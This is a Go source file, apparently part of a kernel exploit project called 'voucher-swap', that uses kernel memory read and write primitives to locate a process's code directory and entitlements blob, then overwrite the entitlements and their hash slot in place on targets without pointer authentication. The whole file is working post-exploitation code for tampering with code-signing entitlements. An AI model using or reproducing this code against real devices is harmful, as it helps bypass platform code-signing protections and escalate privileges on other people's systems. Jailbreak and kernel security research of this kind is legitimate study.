package csblob

import (
	"encoding/binary"

	"github.com/apex/log"
	cstypes "github.com/blacktop/go-macho/pkg/codesign/types"

	"github.com/ant4g0nist/voucher-swap/pkg/kernel/offsets"
	"github.com/ant4g0nist/voucher-swap/pkg/kmem"
)

// directStrategy reads and writes each structure in place through its own
// kernel address. Used on targets without pointer authentication.
type directStrategy struct {
	k kmem.Kernel
	l *offsets.Layout
}

func newDirectStrategy(k kmem.Kernel, l *offsets.Layout) *directStrategy {
	return &directStrategy{k: k, l: l}
}

func (*directStrategy) Name() string { return StrategyDirect }

func (d *directStrategy) Read(record kmem.Addr) (*Snapshot, error) {
	cdAddr, err := kmem.ReadPtr(d.k, record.Add(d.l.Record.CodeDirectory))
	if err != nil {
		return nil, &Error{Kind: KindKernelIO, Err: err}
	}
	blobAddr, err := kmem.ReadPtr(d.k, record.Add(d.l.Record.EntitlementsBlob))
	if err != nil {
		return nil, &Error{Kind: KindKernelIO, Err: err}
	}

	hdr := make([]byte, codeDirectoryHeaderSize)
	if err := d.k.Read(cdAddr, hdr); err != nil {
		return nil, &Error{Kind: KindKernelIO, Err: err}
	}
	cd, err := parseCodeDirectory(hdr)
	if err != nil {
		return nil, &Error{Kind: KindStructural, Err: err}
	}
	if err := checkCodeDirectory(cd); err != nil {
		return nil, err
	}

	var lenRaw [4]byte
	if err := d.k.Read(blobAddr.Add(4), lenRaw[:]); err != nil {
		return nil, &Error{Kind: KindKernelIO, Err: err}
	}
	length := binary.BigEndian.Uint32(lenRaw[:])
	if err := checkBlobLength(length); err != nil {
		return nil, err
	}
	blob := make([]byte, length)
	if err := d.k.Read(blobAddr, blob); err != nil {
		return nil, &Error{Kind: KindKernelIO, Err: err}
	}

	if err := checkHashSize(cd); err != nil {
		return nil, err
	}
	slotAddr := kmem.Addr(int64(cdAddr) + cd.specialSlotOffset(cstypes.CSSLOT_ENTITLEMENTS))
	slot := make([]byte, cstypes.HASH_SIZE_SHA256)
	if err := d.k.Read(slotAddr, slot); err != nil {
		return nil, &Error{Kind: KindKernelIO, Err: err}
	}

	log.WithFields(log.Fields{
		"cd":   cdAddr,
		"blob": blobAddr,
		"slot": slotAddr,
	}).Debug("Read code signature in place")

	return &Snapshot{
		Record:        record,
		CodeDirectory: cd,
		Entitlements:  blob,
		slot:          slot,
		slotAddr:      slotAddr,
		blobAddr:      blobAddr,
	}, nil
}

// Commit writes the digest first and the blob second, both in place.
func (d *directStrategy) Commit(s *Snapshot) error {
	if err := d.k.Write(s.slotAddr, s.slot); err != nil {
		return &Error{Kind: KindKernelIO, Err: err}
	}
	if err := d.k.Write(s.blobAddr, s.Entitlements); err != nil {
		return &Error{Kind: KindKernelIO, Err: err}
	}
	return nil
}
